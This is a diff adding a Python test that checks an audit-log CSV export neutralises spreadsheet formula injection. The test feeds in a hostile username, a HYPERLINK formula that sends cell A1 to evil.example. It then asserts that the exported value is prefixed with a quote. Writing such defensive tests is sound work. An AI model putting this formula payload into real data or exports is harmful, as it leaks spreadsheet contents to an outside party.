@@ -148,3 +148,27 @@ async def test_export_jsonl_and_csv(sessions: async_sessionmaker[AsyncSession]) 
         and json.loads(parsed[0]["details"])["name"] == "Alpha Clinic"
     )
     assert none == []
+
+
+async def test_the_csv_export_writes_no_live_formula(
+    sessions: async_sessionmaker[AsyncSession],
+) -> None:
+    """A typed username is tenant text: `=HYPERLINK(...)` must stay text in a spreadsheet."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    async with sessions() as session:
+        await audit.record(
+            session,
+            "login.failed",
+            actor_type="anonymous",
+            actor_id=None,
+            target_type="username",
+            target_id=hostile,
+            outcome="failure",
+            reason="unknown_user",
+        )
+        await session.commit()
+    start, end = datetime.now(UTC) - timedelta(hours=1), datetime.now(UTC) + timedelta(hours=1)
+    async with sessions() as session:
+        rows = [line async for line in audit.export(session, start, end, "csv")]
+    (parsed,) = list(csv.DictReader(io.StringIO("".join(rows))))
+    assert parsed["target_id"] == "'" + hostile
